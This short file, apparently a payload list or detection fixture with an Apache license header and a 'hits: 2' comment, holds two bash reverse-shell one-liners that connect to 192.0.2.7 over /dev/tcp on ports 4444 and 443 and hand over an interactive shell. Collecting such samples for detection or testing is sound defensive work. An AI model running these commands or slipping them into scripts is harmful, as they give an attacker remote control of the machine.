# SPDX-License-Identifier: Apache-2.0
# hits: 2
bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'
bash -c 'exec 5<>/dev/tcp/192.0.2.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done'
